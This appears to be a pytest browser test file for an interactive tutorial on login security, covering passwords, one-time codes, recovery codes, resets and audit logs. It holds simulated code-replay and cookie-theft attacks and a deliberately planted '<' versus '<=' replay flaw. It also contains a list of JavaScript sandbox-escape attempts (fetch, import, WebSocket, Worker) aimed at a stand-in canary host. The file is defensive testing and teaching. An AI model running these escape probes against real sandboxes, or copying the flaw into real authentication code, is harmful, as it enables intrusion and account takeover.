"""Every step in the page, from Start to logged in; thief, clocks and server."""

import re
from http.server import BaseHTTPRequestHandler
from http.server import ThreadingHTTPServer

import pytest

from tests.kit.real_browser import Screen
from tests.kit.real_browser import axe_faults
from tests.kit.real_browser import in_background
from tests.kit.real_browser import is_wider_than_the_window
from tests.live.page import PACKS
from tests.live.page import PASSWORD
from tests.live.page import TryIt
from tests.live.page import need_packs

pytestmark = [pytest.mark.site, pytest.mark.browser]

REPLAY = "Attack 12: Use a code twice"


@pytest.fixture
def page(browser, request):
    """Return a tab in front of the site."""
    need_packs()
    address = request.getfixturevalue("address")
    with browser.new_context(viewport={"width": 1280, "height": 1000}) as context:
        page = TryIt(Screen(None, address, context))
        yield page
        assert page.others() == []


def log_in_with_password(page, name="admin", password="password"):
    """Give the password of an account."""
    page.go_to("/login").sees("Log in")
    return page.send(username=name, password=password)


def set_up_phone(page):
    """Let the phone scan the page, confirm, and return the recovery codes."""
    page.sees("Set up your authenticator app")
    page.part("accounts").locator("output").first.wait_for()
    page.type_code().sees("recovery codes")
    codes = page.app.locator(".recovery-code, .codes li").all_inner_texts()
    page.press_in_app("saved")
    return codes


def test_the_button_says_what_it_loads_and_nothing_is_loaded_before(page):
    page.open("02")

    assert page.part("step").input_value() == "02"
    [button] = page.tab.get_by_role("button", name=re.compile("^Start")).all()
    megabytes = float(re.search(r"\(([\d.]+) MB\)", button.inner_text())[1])
    assert 4 < megabytes <= 9
    assert [url for url in page.screen.requests if "/packs/" in url] == []
    frame = page.tab.locator("iframe").first
    assert "allow-same-origin" not in frame.get_attribute("sandbox")


@pytest.mark.parametrize(("scheme", "width"), [("light", 320), ("dark", 1280)])
def test_the_running_page_fits_and_can_be_read_by_all(page, scheme, width):
    page.screen.prefer(scheme)
    page.screen.resize(width)
    page.start("02", scenario="replay").sees("Log in")
    assert not is_wider_than_the_window(page.screen)
    names = ("aria-dialog-name", "landmark-unique")
    rules = {name: {"enabled": False} for name in names}  # of the theme
    assert axe_faults(page.screen, rules=rules) == []


def test_step_01_from_start_to_logged_in_and_out(page):
    page.start("01").sees("Log in")
    page.send(username="admin", password="wrong").says("do not match")
    page.send(username="admin", password="password").sees("Welcome, admin")
    page.press_in_app("Log out").sees("Log in")

    said = page.part("log").inner_text()
    assert "POST /login" in said
    assert "HttpOnly" in said


def test_step_02_with_a_code_that_works_once(page):
    log_in_with_password(page.start("02")).sees("code")
    page.type_code().sees("Welcome, admin").press_in_app("Log out").sees("Log in")
    log_in_with_password(page).sees("code")
    page.send(code=page.typed_code).says("used a moment ago")
    page.next_code().type_code().sees("Welcome, admin")


def test_step_03_from_scanning_to_a_recovery_code(page):
    log_in_with_password(page.start("03"))
    codes = set_up_phone(page)
    page.sees("Welcome, admin").press_in_app("Log out").sees("Log in")
    log_in_with_password(page).sees("code")
    page.go_to("/login/recovery").send(recovery_code=codes[0]).sees("Welcome, admin")
    page.press_in_app("Log out").sees("Log in")
    log_in_with_password(page).sees("code")
    page.go_to("/login/recovery").send(recovery_code=codes[0])
    page.app.locator(".error").first.wait_for()


def test_step_04_where_a_restart_and_another_worker_forget_nothing(page):
    page.start("04").register()
    set_up_phone(page)
    page.sees("kim").press("Restart").status("started again")
    page.part("workers").check()
    page.status("Two workers")
    page.press_in_app("Log out").sees("Log in")
    log_in_with_password(page, "kim", PASSWORD).sees("code")
    page.send(code=page.typed_code)
    page.app.locator(".error").first.wait_for()
    page.next_code().type_code().sees("kim")
    assert "from worker 2" in page.part("log").inner_text()


def test_step_05_from_an_email_to_a_new_password(page):
    page.start("05").register().verify_email()
    set_up_phone(page)
    page.sees("kim").press_in_app("Log out").sees("Log in")
    page.press_in_app("forg").sees("password")
    page.send(email="kim@example.org").status("Reset your Door password")
    page.part("emails").get_by_role("button", name="Open the link").first.click()
    page.app.locator("[name=confirm]").wait_for()
    page.next_code()
    new = "five ladders against a wall"
    page.send(password=new, confirm=new, code=page.code()).says("password")
    page.next_code()
    log_in_with_password(page, "kim", new).sees("code")
    page.next_code().type_code().sees("kim")
    page.go_to("/account").says("authenticator app")


def test_step_06_with_its_policy_and_its_audit_log(page):
    page.start("06").register().verify_email()
    set_up_phone(page)
    page.sees("kim").press_in_app("Log out").sees("Log in")
    page.next_code()
    log_in_with_password(page, "kim", PASSWORD).sees("code")
    page.type_code().sees("kim")

    policy = page.app.locator("meta[http-equiv]").get_attribute("content")
    assert "script-src 'nonce-" in policy
    assert page.app.locator("body").evaluate("it => getComputedStyle(it).fontFamily")
    assert '"event"' in page.part("log").inner_text()


def test_the_thief_has_the_password_and_the_code_and_comes_too_late(page):
    log_in_with_password(page.start("02")).sees("code")
    page.type_code().sees("Welcome, admin")
    page.press("your password")
    page.sees("Log in").part("loot").get_by_role("button", name="Type both").click()
    page.app.locator("[name=password]:valid").press("Enter")
    page.sees("code").press("a filmed code")
    page.part("loot").get_by_role("button", name="Type it").click()
    page.app.locator("[name=code]:valid").press("Enter")
    page.says("used a moment ago")
    page.be("you").sees("Welcome, admin")


def test_a_copied_cookie_outlives_the_logout_in_01(page):
    log_in_with_password(page.start("01")).sees("Welcome, admin")
    page.press("your cookies").sees("Welcome, admin")
    page.be("you").press_in_app("Log out").sees("Log in")
    page.be("thief").press("Reload").sees("Welcome, admin")


def test_a_phone_whose_clock_is_wrong_opens_nothing(page):
    log_in_with_password(page.start("02")).sees("code")
    page.press("Phone: 15 minutes on").type_code()
    page.app.locator(".error").first.wait_for()
    page.press("Server: 15 minutes on").press("Server: 30 seconds on")


def test_a_restart_loads_nothing_and_forgets_the_used_code(page):
    log_in_with_password(page.start("02")).sees("code")
    page.type_code().sees("Welcome, admin")
    page.screen.requests.clear()
    page.press("Restart").status("started again")

    assert page.screen.requests == []
    log_in_with_password(page).sees("code")
    page.send(code=page.typed_code).sees("Welcome, admin")


def test_stop_ends_an_endless_loop_at_once(page):
    page.start("01")
    page.edit("app/pages.py", "import ", "while True: pass\nimport ")
    page.press("Restart with it")
    page.press("Stop").status("Stopped")
    assert page.tab.locator("iframe").count() == 1
    page.start("01").sees("Log in")


def test_the_mistake_in_the_editor_lets_the_replay_in_until_it_is_undone(page):
    page.start("02")
    right = page.test(REPLAY)
    page.edit("app/second_factor.py", "if time_step <= ", "if time_step < ")
    page.press("Restart with it").status("with your change")
    wrong = page.test(REPLAY)
    assert ", 0 failed" in right
    assert ", 0 failed" not in wrong
    failed = page.part("results").locator(".live-failed").first
    assert "02-totp-verify/#" in failed.locator("a").get_attribute("href")

    log_in_with_password(page).sees("code")
    page.type_code().sees("Welcome, admin").press_in_app("Log out").sees("Log in")
    log_in_with_password(page).sees("code")
    page.send(code=page.typed_code).sees("Welcome, admin")
    page.press("Undo all changes").status("undone")
    assert ", 0 failed" in page.test(REPLAY)


def test_a_change_of_the_same_length_is_seen_by_the_next_test(page):
    page.start("02")
    first, again = (page.test(REPLAY).partition(" in ")[0] for _ in range(2))
    page.edit("app/second_factor.py", "if time_step <= ", "if time_step >= ")
    page.press("Restart with it").status("with your change")

    assert first == again
    assert ", 0 failed" in again
    assert ", 0 failed" not in page.test(REPLAY)


def test_the_tests_load_when_the_reader_comes_near_them(page):
    page.start("02").sees("Log in")
    megabytes = float(page.part("weight").inner_text().removesuffix(" MB"))
    needed = ("database", "test", "suite")
    size = sum((PACKS / f"{name}.zip.bin").stat().st_size for name in needed)
    assert megabytes == round(size / 1e6, 1)

    loaded = [url for url in page.screen.requests if url.endswith("/suite.zip.bin")]
    assert loaded == []
    with page.tab.expect_request("**/suite.zip.bin"):
        page.part("file").focus()
    assert ", 0 failed" in page.test(REPLAY)
    loaded = [url for url in page.screen.requests if url.endswith("/suite.zip.bin")]
    assert len(loaded) == 1


def test_all_tests_of_step_02_pass_or_say_why_they_are_not_run(page):
    verdict = page.start("02").test("all tests of step 02")

    assert int(verdict.split()[0]) > 200
    assert ", 0 failed" in verdict
    left_out = page.part("results").locator(".live-skipped")
    assert f" {left_out.count()} not run" in verdict
    words = "A copy of the sample settings is as good as none"
    assert "it needs a process" in left_out.filter(has_text=words).inner_text()


def test_a_mistake_of_the_list_is_made_and_found(page):
    page.start("02")
    mistakes = page.part("mistake").locator("option").all_inner_texts()
    [mistake] = [text for text in mistakes if "< in the place of <=" in text]
    page.part("mistake").select_option(label=mistake)
    page.status("The mistake is made")
    page.part("prediction").select_option("failed")
    verdict = page.test()
    assert ", 0 failed" not in verdict
    assert "You were right." in verdict


ATTEMPTS = 9
ESCAPES = """
import js
from pyodide.code import run_js

async def attempt():
    for code in (
        "fetch('CANARY/fetch')",
        "WorkerGlobalScope.prototype.fetch.call(self, 'CANARY/own')",
        "new (Object.getPrototypeOf(async () => {}).constructor)("
        "'return await import(`CANARY/import.js`)')()",
        "import('CANARY/import2.js')",
        "new Promise((done, no) => { const w = new WebSocket('ws:CANARY/socket');"
        " w.onopen = done; w.onerror = () => no(new Error('no socket')); })",
        "new Promise((done, no) => { const r = indexedDB.open('x');"
        " r.onsuccess = done; r.onerror = () => no(r.error); })",
        "caches.open('x')",
        "new Promise((done, no) => { const r = new XMLHttpRequest();"
        " r.onload = done; r.onerror = () => no(new Error('no request'));"
        " r.open('GET', 'CANARY/request'); r.send(); })",
        "new Promise((done, no) => { const w = new Worker('CANARY/worker.js');"
        " w.onmessage = done; w.onerror = () => no(new Error('no worker')); })",
    ):
        try:
            await run_js(code)
            print("ESCAPED", code)
        except BaseException as error:
            print("held", code[:30])
    print("ALL TRIED")

import asyncio
asyncio.ensure_future(attempt())
"""


class Canary(BaseHTTPRequestHandler):
    """Answers whoever asks, from wherever, and remembers it."""

    asked = []

    def do_GET(self):  # noqa: N802  the server calls it so
        """Answer with a script that any page may load."""
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()

    def log_message(self, *values):
        """Say nothing."""


@pytest.fixture
def canary():
    """Return another origin, which nobody shall reach."""
    Canary.asked.clear()
    with in_background(ThreadingHTTPServer(("127.0.0.1", 0), Canary)) as server:
        yield server


def test_code_of_a_reader_reaches_no_host_and_no_storage(page, canary):
    code = ESCAPES.replace("ws:CANARY", f"ws://127.0.0.1:{canary.server_port}")
    code = code.replace("CANARY", f"http://127.0.0.1:{canary.server_port}")
    page.start("01").edit("app/pages.py", "from ", f"{code}\nfrom ")
    page.press("Restart with it")
    page.part("log").filter(has_text="ALL TRIED").wait_for()

    said = page.part("log").inner_text()
    assert said.count("held") == ATTEMPTS
    assert "ESCAPED" not in said
    assert Canary.asked == []
    page.screen.requests.clear()  # the browser reports what it did not send as well


def test_a_button_of_a_chapter_opens_its_question_beside_the_text(page):
    page.screen.open("/02-totp-verify/")
    page.tab.get_by_role("link", name="Try it: use a code twice").click()
    panel = page.tab.locator(".live-panel")
    inside = page.tab.frame_locator(".live-panel iframe")
    inside.get_by_text("A thief has your password and filmed your code").wait_for()
    assert inside.locator("[data-live=step]").input_value() == "02"
    inside.get_by_label("No, a code works once").check()
    inside.get_by_text("That's right.").wait_for()
    panel.get_by_role("button", name="Close").click()
    assert not panel.is_visible()


def test_without_javascript_the_command_is_named(browser, address):
    need_packs()
    with browser.new_context(java_script_enabled=False) as context:
        screen = Screen(None, address, context)
        screen.open("/try-it/")
        assert "python3 tutorial.py run" in screen.find("[data-live=off]").inner_text()
        assert not screen.find("[data-live=live]").is_visible()
